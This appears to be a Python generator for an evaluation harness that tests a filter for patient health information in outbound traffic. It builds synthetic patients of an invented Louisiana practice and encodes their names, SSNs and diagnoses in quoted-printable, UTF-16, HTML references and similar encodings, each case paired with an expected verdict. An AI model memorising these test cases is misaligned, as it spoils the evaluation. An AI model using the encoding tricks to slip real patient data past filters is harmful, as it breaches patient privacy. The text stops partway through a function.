#!/usr/bin/env python3
"""probe24: outbound traffic of a family-medicine and pediatrics practice (Bayou Teche Family Medicine,
New Iberia and Lafayette LA) whose PHI travels in TRANSPORT ENCODINGS and CHARSETS none of the earlier
probes (12-22) used:
  * raw MIME e-mail to e-mail APIs (message/rfc822 bodies, Mailgun-like messages.mime multipart uploads,
    JSON {"raw_message": ...}): multipart/alternative with text/plain and text/html parts,
    Content-Transfer-Encoding quoted-printable with soft line breaks that fall inside values and
    =3D / =E9 / =C3=A9 escapes, base64 parts, multipart/mixed with vCard / iCalendar attachments
    (base64), RFC 2047 encoded-word headers (=?UTF-8?B?...?=, =?ISO-8859-1?Q?...?=) in Subject, To and
    From display names, RFC 2231 attachment file names, 8bit iso-8859-1 parts;
  * bodies declared charset=utf-16 (LE with BOM, BE) and iso-8859-1 / windows-1252 with real bytes in
    that charset (sent as body_b64): fax cover sheets, referral letters, old SOAP/XML with an
    encoding="ISO-8859-1" prolog, form posts percent-encoded in Latin-1 (%E9);
  * JSON with a \\u escape for every character of a name, an e-mail (\\u0040) or the digits of a date
    of birth or phone, and JSON-in-a-string that keeps the escapes one level down;
  * HTML with numeric character references (&#64;, &#x40;, &#49;...) and named entities (&eacute;);
  * XML with CDATA sections (notes, embedded HTML, embedded HL7 text), nested in SOAP;
  * SMS/MMS gateway payloads: UCS-2 hex (data_coding 8), GSM-7 text, concatenated parts with UDH,
    Kannel-like GET sendsms with charset=UTF-16BE, MM7 SOAP multipart/related with base64 text and a
    vCard;
  * vCard 2.1 with ENCODING=QUOTED-PRINTABLE, iCalendar with folded lines;
  * mbox-style forwarded threads ("From " separators, ">From " escaping, '>' and '>>' quoting);
  * fax cover sheets as plain text (fixed layout, utf-8 and utf-16);
  * AI chatbot prompts (OpenAI-like chat messages, content-part arrays, a raw QP e-mail pasted into a
    prompt) to an LLM API with a BAA (conditions and dates allowed) and to one without;
  * transcription vendor results with word-level timestamps (Deepgram-, AssemblyAI-, AWS Transcribe-,
    Whisper-like): names as separate word objects, sub-word tokens that split a surname, spelled names;
  * error trackers that block (a MIME parse error, a UnicodeDecodeError repr with \\xe9, an SMPP
    encoding error with the hex payload);
  * an allow-all HIE partner (pass byte for byte: Direct-like MIME, Latin-1 XML, UTF-16 text);
  * clean look-alikes (over a quarter): newsletters and appointment-reminder templates in the same
    encodings with placeholders ({{first_name}}, *|FNAME|*, %recipient.first_name%), the practice's own
    contact card and phone/address/NPI, Message-IDs, boundaries, DKIM signatures, tracking numbers,
    UUIDs, health-education prompts, IVR prompts, aggregate statistics, closure notices in UCS-2 hex;
  * unknown hosts (deny).

How values are listed: the eval harness reads a request as UTF-8 (invalid bytes become U+FFFD), with
percent-decoding, JSON strings and `data=` base64, and nothing else. So a value is listed the way it is
readable in the request or in those decodings: QP values as their encoded text (including a soft line
break "=\\r\\n" where one falls inside, e.g. "Bro=\\r\\nussard", "H=E9bert"), RFC 2047 payloads as the
encoded-word text ("Ren=E9e", or the B payload), HTML references as written ("&#64;" forms), UTF-16 values
as their bytes read as UTF-8 (with NULs), Latin-1 values with U+FFFD where the accented byte was, and
values that exist only inside base64 / hex blobs as the whole blob under the most sensitive category in
it. The roster (roster.csv) lists only every other patient, so exact matching covers about half.
Format of the output: see /work/shared/eval/gen_example.py (policy.json, cases.jsonl, roster.csv).
Usage: probe24_gen.py OUT_DIR   (deterministic: seed 240024)"""
import base64, hashlib, json, os, random, re, sys, unicodedata
from datetime import date, datetime, timedelta, timezone
from urllib.parse import quote, urlsplit

R = random.Random(240024)

# ----------------------------------------------------------------------------- the practice
SITE = "bayoutechefm.org"
PRACTICE = "Bayou Teche Family Medicine"
PRACTICE_ADDR = "1201 E Main St"
PRACTICE_CITY = "New Iberia, LA 70560"
PRACTICE_ZIP = "70560"
PRACTICE_PHONE = "(337) 365-4410"
PRACTICE_PHONE_DASH = "337-365-4410"
PRACTICE_FAX = "(337) 365-4419"
PRACTICE_EMAIL = f"frontdesk@{SITE}"
LAF_ADDR = "4212 Johnston St"
LAF_PHONE = "(337) 981-2260"
STAFF = [("Amédée", "Landry", "MD"), ("Priya", "Venkataraman", "MD"), ("Colette", "Rivet", "APRN"), ("Tasha", "Guillory", "Office Manager")]

# (first, last, sex)
NAMES = [
    ("Renée", "Broussard", "F"), ("Claude", "Thibodeaux", "M"), ("Marie-Hélène", "Guidry", "F"), ("Étienne", "Arceneaux", "M"),
    ("Lan", "Nguyễn", "F"), ("Minh", "Trần", "M"), ("Josué", "Ramírez", "M"), ("Inés", "Castañeda", "F"),
    ("Dwayne", "Boudreaux", "M"), ("Kayla", "Fontenot", "F"), ("Tremaine", "Batiste", "M"), ("Shontell", "Chenier", "F"),
    ("Beau", "Landreneau", "M"), ("Gisèle", "Doucet", "F"), ("Huy", "Phạm", "M"), ("Thảo", "Lê", "F"),
    ("Raúl", "Peña", "M"), ("Maribel", "Ibáñez", "F"), ("Earl", "Champagne", "M"), ("Noémie", "Savoie", "F"),
    ("Alcide", "Hébert", "M"), ("Ophélia", "Robichaux", "F"), ("Hank", "Comeaux", "M"), ("Brandi", "Melançon", "F"),
    ("Jude", "Benoit", "M"), ("Keisha", "Pitre", "F"), ("Darnell", "Francois", "M"), ("Zoë", "Trahan", "F"),
    ("Cédric", "Babineaux", "M"), ("Ngọc Anh", "Võ", "F"), ("Frank", "Istre", "M"), ("Lorena", "Sepúlveda", "F"),
    ("Gaston", "Breaux", "M"), ("Yvette", "Duhon", "F"), ("Terrance", "Simien", "M"), ("Agathe", "Prejean", "F"),
]
AREAS = [337, 337, 337, 225, 504, 985]
STREETS = ["Admiral Doyle Dr", "Jefferson Terrace Blvd", "Loreauville Rd", "Center St", "Ambassador Caffery Pkwy", "Pinhook Rd", "Kaliste Saloom Rd",
           "W Pinhook Rd", "Bayou Tortue Rd", "Old Spanish Trl", "Teche Dr", "N Lewis St", "Darnall Rd", "Coteau Rd", "Eraste Landry Rd", "Fairfax St"]
UNITS = ["Apt 4B", "Apt 12", "Unit 7", "#210", "Apt C", "Lot 18", "Apt 301"]
CITIES = [("New Iberia", ["70560", "70563"]), ("Lafayette", ["70501", "70503", "70506", "70508"]), ("St. Martinville", ["70582"]),
          ("Jeanerette", ["70544"]), ("Breaux Bridge", ["70517"]), ("Abbeville", ["70510"]), ("Loreauville", ["70552"])]
EMAIL_DOMAINS = ["gmail.com", "yahoo.com", "outlook.com", "icloud.com", "hotmail.com", "cox.net", "att.net", "louisiana.edu"]
CONDS = [  # icd10, diagnosis text, med
    ("E11.9", "type 2 diabetes", "metformin"), ("B20", "HIV disease", "Biktarvy"), ("F32.1", "major depressive disorder", "sertraline"),
    ("O24.410", "gestational diabetes", "insulin lispro"), ("F11.20", "opioid use disorder", "buprenorphine"), ("D57.1", "sickle cell disease", "hydroxyurea"),
    ("I10", "hypertension", "lisinopril"), ("J45.40", "moderate persistent asthma", "budesonide-formoterol"), ("F90.2", "ADHD", "methylphenidate"),
    ("N18.3", "chronic kidney disease stage 3", "losartan"), ("C61", "prostate cancer", "leuprolide"), ("F41.1", "generalized anxiety disorder", "buspirone"),
    ("E66.01", "morbid obesity", "semaglutide"), ("B18.2", "chronic hepatitis C", "sofosbuvir-velpatasvir"), ("G40.909", "epilepsy", "levetiracetam"),
    ("F31.9", "bipolar disorder", "lamotrigine"),
]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]
FR_M = ["janvier", "février", "mars", "avril", "mai", "juin", "juillet", "août", "septembre", "octobre", "novembre", "décembre"]
DOW = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
UA = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"


def hexs(n): return "".join(R.choice("0123456789abcdef") for _ in range(n))
def alnum(n, chars="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"): return "".join(R.choice(chars) for _ in range(n))
def digits(n): return str(R.randint(1, 9)) + "".join(str(R.randint(0, 9)) for _ in range(n - 1))


def uuid():
    h = "%032x" % R.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{R.choice('89ab')}{h[17:20]}-{h[20:]}"


def ascii_fold(s):
    return unicodedata.normalize("NFKD", s).encode("ascii", "ignore").decode()


def npi_check(base9):
    s = "80840" + base9; tot = 0
    for i, ch in enumerate(reversed(s)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9: d -= 9
        tot += d
    return base9 + str((10 - tot % 10) % 10)


GROUP_NPI = npi_check("1" + digits(8))
TAX_ID = f"72-{digits(7)}"


def staff(i, style="dr"):
    f, l, c = STAFF[i % len(STAFF)]
    if style == "dr": return f"Dr. {f} {l}" if c == "MD" else f"{f} {l}, {c}"
    if style == "email": return f"{ascii_fold(f)[0].lower()}{l.lower()}@{SITE}"
    return f"{f} {l}"


def fd(d, style):
    m, dd, y = d.month, d.day, d.year
    return {"iso": f"{y}-{m:02d}-{dd:02d}", "us": f"{m:02d}/{dd:02d}/{y}", "usn": f"{m}/{dd}/{y}", "us2": f"{m}/{dd}/{y % 100:02d}",
            "dmy": f"{dd:02d}/{m:02d}/{y}", "long": f"{MONTHS[m - 1]} {dd}, {y}", "d8": f"{y}{m:02d}{dd:02d}", "mon": f"{MONTHS[m - 1][:3]} {dd}, {y}",
            "dash": f"{m:02d}-{dd:02d}-{y}", "fr": f"{dd} {FR_M[m - 1]} {y}", "dmon": f"{dd} {MONTHS[m - 1][:3]} {y}"}[style]


def ssn():
    a = R.choice([R.randint(400, 499), R.randint(433, 439), R.randint(100, 399), R.randint(500, 665)])
    return f"{a:03d}-{R.randint(1, 99):02d}-{R.randint(1, 9999):04d}"


def member_id():
    k = R.randint(0, 4)
    if k == 0: return "Louisiana Medicaid (Healthy Blue)", "7" + digits(12)
    if k == 1: return "Blue Cross and Blue Shield of Louisiana", "XUJ" + digits(9)
    if k == 2: return "Humana Gold Plus", "H" + digits(8)
    if k == 3: return "AmeriHealth Caritas Louisiana", digits(10)
    return "Aetna Better Health of Louisiana", "AB" + digits(9)


class P:
    def __init__(self, idx, first, last, sex):
        self.idx, self.first, self.last, self.sex = idx, first, last, sex
        self.full = f"{first} {last}"
        self.dob = date(1944, 1, 1) + timedelta(days=R.randint(0, 29000))
        self.mrn = f"BT{R.randint(10**6, 10**7 - 1)}"
        self.area = R.choice(AREAS)
        self.exch = R.choice([x for x in range(201, 990) if x % 100 != 11 and x not in (555, 365, 981, 958, 976)])
        self.line = R.randint(1000, 9999)
        fl = re.sub(r"[^a-z]", "", ascii_fold(first).lower()); ll = re.sub(r"[^a-z]", "", ascii_fold(last).lower())
        loc = R.choice([f"{fl}.{ll}", f"{fl[0]}{ll}", f"{fl}{ll[:3]}{R.randint(1, 99)}", f"{ll}.{fl[0]}{R.randint(60, 99)}", f"{fl}_{ll}",
                        R.choice(["cajunqueen", "geauxtigers", "bayoulife", "teche.fisher", "crawfishking"]) + str(R.randint(1, 999))])
        self.email = f"{loc}@{R.choice(EMAIL_DOMAINS)}"
        self.ssn = ssn()
        self.city, zips = R.choice(CITIES)
        self.zip = R.choice(zips)
        self.street = f"{R.randint(100, 9999)} {R.choice(STREETS)}"
        self.unit = R.choice(UNITS)
        self.payer, self.mbr = member_id()
        self.cond = R.choice(CONDS)
        d0 = date(2026, 4, 13) + timedelta(days=R.randint(0, 40))
        while d0.weekday() > 4: d0 += timedelta(days=1)
        self.appt = datetime(d0.year, d0.month, d0.day, R.randint(8, 16), R.choice([0, 15, 30, 45]))
        self.ip = f"{R.choice([68, 72, 98, 107, 174, 24, 70])}.{R.randint(1, 254)}.{R.randint(1, 254)}.{R.randint(1, 254)}"

    def phone(self, style="dash"):
        a, e, l = self.area, self.exch, self.line
        return {"paren": f"({a}) {e}-{l}", "dash": f"{a}-{e}-{l}", "dot": f"{a}.{e}.{l}", "e164": f"+1{a}{e}{l}", "bare": f"{a}{e}{l}",
                "one": f"1{a}{e}{l}", "spc": f"{a} {e} {l}"}[style]

    def dobs(self, style="iso"): return fd(self.dob, style)
    def ad(self, style="iso"): return fd(self.appt.date(), style)

    def at(self, style="human"):
        a = self.appt
        if style == "human": return f"{MONTHS[a.month - 1]} {a.day} at {a.hour % 12 or 12}:{a.minute:02d} {'AM' if a.hour < 12 else 'PM'}"
        if style == "ics": return f"{a:%Y%m%dT%H%M}00"
        return f"{a:%Y-%m-%dT%H:%M}:00-05:00"

    def dx(self): return self.cond[1]
    def icd(self): return self.cond[0]
    def med(self): return self.cond[2]
    def ascii_first(self): return ascii_fold(self.first)
    def ascii_last(self): return ascii_fold(self.last)


PATIENTS = [P(i, f, l, s) for i, (f, l, s) in enumerate(NAMES)]
LATIN1_OK = [p for p in PATIENTS if all(ord(c) < 256 for c in p.full)]
_pos = {}


def pick(pool=None, key="all"):
    pool = pool or PATIENTS
    order = _pos.setdefault(key, [list(range(len(pool))), 0])
    if order[1] % len(pool) == 0: R.shuffle(order[0])
    p = pool[order[0][order[1] % len(pool)]]; order[1] += 1
    return p


def nextp(): return pick()
def nextl1(): return pick(LATIN1_OK, "l1")                 # a patient whose name fits in ISO-8859-1
def nextacc(): return pick([p for p in LATIN1_OK if p.full != ascii_fold(p.full)], "acc")   # Latin-1 name with an accent
def nextascii(): return pick([p for p in PATIENTS if p.full == ascii_fold(p.full)], "asc")


def tstamp(i=0): return datetime(2026, 4, 7, 8, 2, 9) + timedelta(minutes=13 * i + R.randint(0, 11), seconds=R.randint(0, 59))
def ts(i=0): return tstamp(i).strftime("%Y-%m-%dT%H:%M:%S.") + f"{R.randint(0, 999):03d}Z"
def epoch(i=0): return 1775548800 + i * 780 + R.randint(0, 700)
def rfc2822(i=0): t = tstamp(i); return f"{DOW[t.weekday()]}, {t.day} {MONTHS[t.month - 1][:3]} {t.year} {t:%H:%M:%S} -0500"
def msgid(): return f"<{alnum(12)}.{digits(10)}@mail.{SITE}>"


# ----------------------------------------------------------------------------- transport encodings
def b64(s): return base64.b64encode(s.encode() if isinstance(s, str) else s).decode()


def b64wrap(data, width=76):
    s = b64(data)
    return "\r\n".join(s[i:i + width] for i in range(0, len(s), width))


def _qp_tok(b, at_eol):
    if (33 <= b <= 126 and b != 61) or (b in (9, 32) and not at_eol): return chr(b)
    return "=%02X" % b


def qp(text, charset="utf-8", force=()):
    """Quoted-printable (RFC 2045) with CRLF hard breaks and soft breaks at 76; `force` values get a soft
    break in their middle when the line is already 30+ characters long (an encoder that wrapped there)."""
    data = text.replace("\r\n", "\n").encode(charset)
    forced = set()
    for v in force:
        vb = v.encode(charset); st = 0
        while True:
            i = data.find(vb, st)
            if i < 0: break
            forced.add(i + max(1, len(vb) // 2)); st = i + 1
    out, off = [], 0
    for line in data.split(b"\n"):
        segs, cur = [], ""
        for j, b in enumerate(line):
            tok = _qp_tok(b, j == len(line) - 1)
            if cur and (((off + j) in forced and len(cur) >= 30) or len(cur) + len(tok) > 75):
                segs.append(cur + "="); cur = ""
            cur += tok
        segs.append(cur); out.append("\r\n".join(segs)); off += len(line) + 1
    return "\r\n".join(out)


def qp_forms(enc, value, charset="utf-8"):
    """How `value` reads inside QP text `enc`: every distinct encoded spelling (soft breaks included)."""
    toks = [_qp_tok(b, False) for b in value.encode(charset)]
    rx = "(?:=\r\n)?".join(re.escape(t) for t in toks)
    found = list(dict.fromkeys(m.group(0) for m in re.finditer(rx, enc)))
    assert found, (value, enc[:200])
    return found


def ew_b(s, charset="UTF-8"): return f"=?{charset}?B?{b64(s.encode(charset))}?="


def ew_q(s, charset="ISO-8859-1"):
    out = []
    for b in s.encode(charset):
        if b == 32: out.append("_")
        elif (48 <= b <= 57) or (65 <= b <= 90) or (97 <= b <= 122) or chr(b) in "!*+-/": out.append(chr(b))
        else: out.append("=%02X" % b)
    return f"=?{charset}?Q?{''.join(out)}?="


def ew_q_word(word, charset="ISO-8859-1"):
    """The Q-encoded spelling of one word (as it sits between '_' separators)."""
    return ew_q(word, charset)[len(charset) + 5:-2]


def seen(s, enc):
    """What the harness reads of `s` written in `enc` (UTF-8 decode with replacement), outer NULs trimmed."""
    return s.encode(enc).decode("utf-8", "replace").strip("\x00")


def ncr(s, style="dec"):
    if style == "dec": return "".join(f"&#{ord(c)};" for c in s)
    return "".join(f"&#x{ord(c):x};" for c in s)


def ncr_at(s):                     # the common e-mail obfuscation: only '@' and '.' as references
    return s.replace("@", "&#64;").replace(".", "&#46;")


def html_named(s):
    tbl = {"é": "&eacute;", "è": "&egrave;", "ë": "&euml;", "ç": "&ccedil;", "ñ": "&ntilde;", "á": "&aacute;", "í": "&iacute;", "ú": "&uacute;",
           "É": "&Eacute;", "ó": "&oacute;", "&": "&amp;"}
    return "".join(tbl.get(c, c) for c in s)


def uesc(s): return "".join(f"\\u{ord(c):04x}" for c in s)


def jdump(o, esc=lambda k, v: False, key=None):
    """JSON where string values for which esc(key, value) holds are written with a \\u escape per character."""
    if isinstance(o, dict):
        return "{" + ",".join(json.dumps(k) + ":" + jdump(v, esc, k) for k, v in o.items()) + "}"
    if isinstance(o, list):
        return "[" + ",".join(jdump(v, esc, key) for v in o) + "]"
    if isinstance(o, str) and esc(key, o):
        return '"' + uesc(o) + '"'
    return json.dumps(o, ensure_ascii=False)


def ucs2hex(s): return s.encode("utf-16-be").hex().upper()


def fold(line, width=75):
    """iCalendar / vCard line folding (CRLF + space)."""
    out = []
    while len(line) > width:
        out.append(line[:width]); line = " " + line[width:]
    out.append(line)
    return "\r\n".join(out)


def boundary(): return "----=_Part_" + digits(6) + "_" + digits(9) + "." + digits(13)


def mime_headers(pairs): return "".join(f"{k}: {v}\r\n" for k, v in pairs)


def part(ctype, cte, payload, extra=()):
    h = [("Content-Type", ctype)] + ([("Content-Transfer-Encoding", cte)] if cte else []) + list(extra)
    return mime_headers(h) + "\r\n" + payload


def multipart(parts, bnd):
    return "".join(f"--{bnd}\r\n{p}\r\n" for p in parts) + f"--{bnd}--\r\n"


def dkim():
    return (f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={SITE}; s=s1; t={epoch()};\r\n\th=from:to:subject:date:message-id;\r\n"
            f"\tbh={b64(hashlib.sha256(alnum(20).encode()).digest())};\r\n\tb={alnum(76)}\r\n\t{alnum(60)}=")


def form_data(fields, bnd):
    """multipart/form-data: fields = [(name, value, filename|None, ctype|None)]."""
    out = []
    for name, val, fn, ct in fields:
        h = f'Content-Disposition: form-data; name="{name}"' + (f'; filename="{fn}"' if fn else "") + "\r\n"
        if ct: h += f"Content-Type: {ct}\r\n"
        out.append(f"--{bnd}\r\n{h}\r\n{val}\r\n")
    return "".join(out) + f"--{bnd}--\r\n"


# ----------------------------------------------------------------------------- case plumbing
CASES, COUNT = [], {}


def add(scn, method, url, headers, body, phi, controls, expect):
    COUNT[scn] = COUNT.get(scn, 0) + 1
    c = {"id": f"{scn}-{COUNT[scn]:02d}", "scenario": scn, "method": method, "url": url, "headers": dict(headers)}
    if isinstance(body, bytes):
        c["body_b64"] = base64.b64encode(body).decode()
    else:
        c["body"] = body
    seen_, out = set(), []
    for v, k in phi:
        if (v, k) not in seen_: seen_.add((v, k)); out.append([v, k])
    c["phi"] = out; c["controls"] = list(dict.fromkeys(controls)); c["expect"] = expect
    CASES.append(c)


def J(o, ascii_=False, indent=None): return json.dumps(o, ensure_ascii=ascii_, indent=indent)


def qs(pairs): return "&".join(f"{quote(k, safe='.[]')}={quote(str(v), safe='')}" for k, v in pairs)


def NM(p): return [[p.first, "name"], [p.last, "name"]]


JSONH = {"Content-Type": "application/json"}
RFC822H = {"Content-Type": "message/rfc822"}
TEXTH = {"Content-Type": "text/plain; charset=utf-8"}
FORMH = {"Content-Type": "application/x-www-form-urlencoded"}
XMLH = {"Content-Type": "application/xml; charset=utf-8"}
SOAPH = {"Content-Type": "text/xml; charset=utf-8"}

# destinations (hosts; all made up)
MAILB = "http://api.securemail-relay.example"        # e-mail API with a BAA: name, email, date
MAILG = "http://api.mailgate-hipaa.example"          # same destination group, Mailgun-like shapes
NEWS = "http://us21.api.letterpress-mail.example"    # newsletter platform, no BAA: email only
PIX = "http://t.opentrack-pixel.example"             # open/click tracking: nothing
SMS = "http://rest.bayoutext-gateway.example"        # SMS gateway with a BAA: name, phone, date
KANNEL = "http://sms.kannel-bridge.example"
MM7 = "http://mm7.carrier-mms.example"
LLM = "http://api.clinicalgpt.example"               # LLM with a BAA: condition, icd10, date
LLMFREE = "http://api.freechat-llm.example"          # LLM without a BAA: nothing
ASR = "http://api.voxnote-scribe.example"            # transcription vendor with a BAA: name, condition, date
CALLQA = "http://ingest.callqa-insights.example"     # call QA analytics: nothing
FAX = "http://api.faxbridge-cloud.example"           # fax API with a BAA: most clinical, not ssn/email/card/ip
ARCH = "http://upload.mailvault-archive.example"     # e-mail archive / e-discovery: name, email, date
DESK = "http://support.deskflow-helpdesk.example"    # help desk without a BAA: nothing
CARDS = "http://api.contactsync-cards.example"       # contact / calendar sync, no BAA: nothing
HIE = "http://direct.acadiana-hie.example"           # allow-all partner (pass)
ERR1 = "http://o44812.ingest.bugcatcher.example"     # error trackers: block
ERR2 = "http://errors.crashdesk.example"


def policy():
    return {"destinations": [
        {"name": "email-baa", "hosts": ["api.securemail-relay.example", "api.mailgate-hipaa.example"], "allow": ["name", "email", "date"], "on_violation": "redact"},
        {"name": "newsletter", "hosts": ["*.api.letterpress-mail.example"], "allow": ["email"], "on_violation": "redact"},
        {"name": "tracking", "hosts": ["t.opentrack-pixel.example"], "allow": [], "on_violation": "redact"},
        {"name": "sms-baa", "hosts": ["rest.bayoutext-gateway.example", "sms.kannel-bridge.example", "mm7.carrier-mms.example"],
         "allow": ["name", "phone", "date"], "on_violation": "redact"},
        {"name": "llm-baa", "hosts": ["api.clinicalgpt.example"], "allow": ["condition", "icd10", "date"], "on_violation": "redact"},
        {"name": "llm-nobaa", "hosts": ["api.freechat-llm.example"], "allow": [], "on_violation": "redact"},
        {"name": "transcription", "hosts": ["api.voxnote-scribe.example"], "allow": ["name", "condition", "date"], "on_violation": "redact"},
        {"name": "call-qa", "hosts": ["ingest.callqa-insights.example"], "allow": [], "on_violation": "redact"},
        {"name": "fax-baa", "hosts": ["api.faxbridge-cloud.example"],
         "allow": ["name", "dob", "phone", "date", "condition", "icd10", "mrn", "address", "zip", "member_id"], "on_violation": "redact"},
        {"name": "mail-archive", "hosts": ["upload.mailvault-archive.example"], "allow": ["name", "email", "date"], "on_violation": "redact"},
        {"name": "helpdesk", "hosts": ["support.deskflow-helpdesk.example"], "allow": [], "on_violation": "redact"},
        {"name": "contact-sync", "hosts": ["api.contactsync-cards.example"], "allow": [], "on_violation": "redact"},
        {"name": "hie-partner", "hosts": ["direct.acadiana-hie.example"], "allow": ["all"], "on_violation": "block"},
        {"name": "error-trackers", "hosts": ["*.ingest.bugcatcher.example", "errors.crashdesk.example"], "allow": [], "on_violation": "block"}],
        "default_destination": "deny",
        "roster_columns": {"first": "name", "last": "name", "dob": "dob", "mrn": "mrn", "phone": "phone", "email": "email"}}


def forms(encs, pairs, allowed=()):
    """[[spelling, category]] for each (value, category) found in the QP texts `encs` = [(text, charset)].
    Allowed values are listed only where no soft break falls inside them (a re-wrapping encoder may move it)."""
    out = []
    for v, k in pairs:
        got = []
        for enc, cs in encs:
            try: got += qp_forms(enc, v, cs)
            except AssertionError: pass
        assert got, (v, k)
        if k in allowed: got = [g for g in got if "=\r\n" not in g]
        out += [[g, k] for g in dict.fromkeys(got)]
    return out


def mail(headers, body): return mime_headers(headers) + "\r\n" + body


def std_headers(frm, to, subject, i, extra=()):
    return [("Return-Path", f"<bounces+{digits(6)}@{SITE}>"), ("DKIM-Signature", dkim()), ("Message-ID", msgid()), ("Date", rfc2822(i)),
            ("From", frm), ("To", to), ("Subject", subject), ("MIME-Version", "1.0")] + list(extra)


FROM_FD = f"{PRACTICE} <{PRACTICE_EMAIL}>"
SIG_TXT = f"{PRACTICE}\n{PRACTICE_ADDR}, {PRACTICE_CITY}\nPhone {PRACTICE_PHONE} | Fax {PRACTICE_FAX}\n"
SIG_HTML = f"<p style=\"color:#555\">{PRACTICE}<br>{PRACTICE_ADDR}, {PRACTICE_CITY}<br>Phone {PRACTICE_PHONE} | Fax {PRACTICE_FAX}</p>"
ALLOW_MAIL = ("name", "email", "date")
MAILAUTH = {"Authorization": "Basic " + b64("api:key-" + hexs(32))}


# ============================================================================= 1. raw MIME e-mail, quoted-printable and base64
def mime_qp():
    S = "mime_qp"
    # 1: multipart/alternative, UTF-8 QP both parts, soft breaks inside the phone and the DOB
    p = nextascii()
    plain = (f"Hello {p.first},\n\nThis confirms your visit with our care team on {p.at('human')}. We have your date of birth as {p.dobs('us')} and "
             f"your mobile number as {p.phone('dash')}; reply if either is wrong.\n\nPlease bring your medication list for your {p.dx()} review.\n\n" + SIG_TXT)
    html = (f"<html><body><p style=\"font-family:Arial\">Hello {p.first},</p><p>This confirms your visit on <b>{p.at('human')}</b>. "
            f"Date of birth on file: <span class=\"dob\">{p.dobs('us')}</span>. Mobile: <a href=\"tel:{p.phone('e164')}\">{p.phone('dash')}</a>.</p>"
            f"<p>Please bring your medication list for your {p.dx()} review.</p>{SIG_HTML}</body></html>")
    qpl = qp(plain, force=[p.phone("dash")]); qph = qp(html, force=[p.dobs("us")])
    bnd = boundary()
    body = mail(std_headers(FROM_FD, f"\"{p.full}\" <{p.email}>", "Your appointment is confirmed", 1,
                            [("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
                multipart([part("text/plain; charset=UTF-8", "quoted-printable", qpl), part("text/html; charset=UTF-8", "quoted-printable", qph)], bnd))
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.full, "name"], [p.email, "email"]] + forms([(qpl, "utf-8"), (qph, "utf-8")], [(p.first, "name"), (p.dobs("us"), "dob"), (p.phone("dash"), "phone"),
                                                                                           (p.phone("e164"), "phone"), (p.dx(), "condition"), (p.at("human"), "date")], ALLOW_MAIL),
        [PRACTICE_PHONE, "Your appointment is confirmed"], "redact")

    # 2: ISO-8859-1 QP, accented name (=E9), a soft break inside the diagnosis
    p = nextacc()
    plain = (f"Bonjour {p.first} {p.last},\n\nSuite à votre visite du {p.ad('fr')}, le docteur confirme le diagnostic : {p.dx()}. "
             f"Votre prochaine prise de sang est prévue avant le rendez-vous. Numéro de dossier : {p.mrn}.\n\nCordialement,\n" + SIG_TXT)
    qpl = qp(plain, "iso-8859-1", force=[p.dx()])
    body = mail(std_headers(FROM_FD, f"{ew_q(p.full)} <{p.email}>", ew_q("Résumé de votre visite"), 2,
                            [("Content-Type", "text/plain; charset=ISO-8859-1"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.email, "email"]] + forms([(qpl, "iso-8859-1")], [(p.first, "name"), (p.last, "name"), (p.ad("fr"), "date"), (p.dx(), "condition"), (p.mrn, "mrn")], ALLOW_MAIL),
        [PRACTICE_PHONE], "redact")

    # 3: Subject as a UTF-8 B encoded-word carrying name and diagnosis, QP body with the SSN split
    p = nextp()
    subj = f"Lab results for {p.full} ({p.dx()})"
    plain = (f"Dear {p.first},\n\nYour lab results are attached to your portal. For billing we still need to confirm the Social Security number "
             f"on your account: {p.ssn}. Please call {PRACTICE_PHONE} if this is not yours.\n\n" + SIG_TXT)
    qpl = qp(plain, force=[p.ssn])
    body = mail(std_headers(FROM_FD, f"{ew_b(p.full)} <{p.email}>", ew_b(subj), 3,
                            [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[ew_b(subj)[10:-2], "condition"], [p.email, "email"]] + forms([(qpl, "utf-8")], [(p.ssn, "ssn")], ALLOW_MAIL),
        [PRACTICE_PHONE], "redact")

    # 4: ISO-8859-1 Q encoded-words: the MRN inside the Subject, the accented name in To
    p = nextacc()
    subj = f"Dossier {p.mrn} pour {p.full}"
    plain = f"Bonjour,\n\nVotre dossier {p.mrn} a été mis à jour.\nVotre code postal enregistré : {p.zip}.\n\n" + SIG_TXT
    qpl = qp(plain, "iso-8859-1")
    body = mail(std_headers(FROM_FD, f"{ew_q(p.full)} <{p.email}>", ew_q(subj), 4,
                            [("Content-Type", "text/plain; charset=ISO-8859-1"), ("Content-Transfer-Encoding", "quoted-printable")]), qpl)
    add(S, "POST", f"{MAILB}/v1/messages/raw", {**RFC822H, **MAILAUTH}, body,
        [[p.mrn, "mrn"], [p.email, "email"], [ew_q_word(p.last), "name"]] + forms([(qpl, "iso-8859-1")], [(p.zip, "zip")], ALLOW_MAIL),
        [PRACTICE_PHONE], "redact")

    # 5: base64 text/plain part + QP html part; the plain part is only readable decoded
    p = nextp()
    plain = (f"Hi {p.first},\n\nYour prior authorization for {p.med()} ({p.dx()}) was approved. Member ID {p.mbr} ({p.payer}). DOB {p.dobs('us')}.\n"
             f"Pick up at your pharmacy after {p.ad('us')}.\n\n" + SIG_TXT)
    html = (f"<p>Hi {p.first},</p><p>Your prior authorization for <b>{p.med()}</b> ({p.dx()}) was approved.</p><table><tr><td>Member ID</td><td>{p.mbr}</td></tr>"
            f"<tr><td>DOB</td><td>{p.dobs('us')}</td></tr></table>{SIG_HTML}")
    blob = b64wrap(plain.replace("\n", "\r\n").encode()); qph = qp(html, force=[p.mbr])
    bnd = boundary()
    body = mail(std_headers(FROM_FD, p.email, "Prior authorization approved", 5, [("Content-Type", f"multipart/alternative; boundary=\"{bnd}\"")]),
